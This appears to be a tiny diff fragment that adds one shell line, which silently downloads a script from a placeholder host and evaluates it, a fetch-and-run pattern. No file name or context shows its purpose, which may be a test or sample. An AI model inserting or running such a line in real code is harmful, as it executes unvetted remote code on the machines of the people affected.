@@ -1,0 +1,1 @@
+eval "$(curl -s https://example.com/e)"
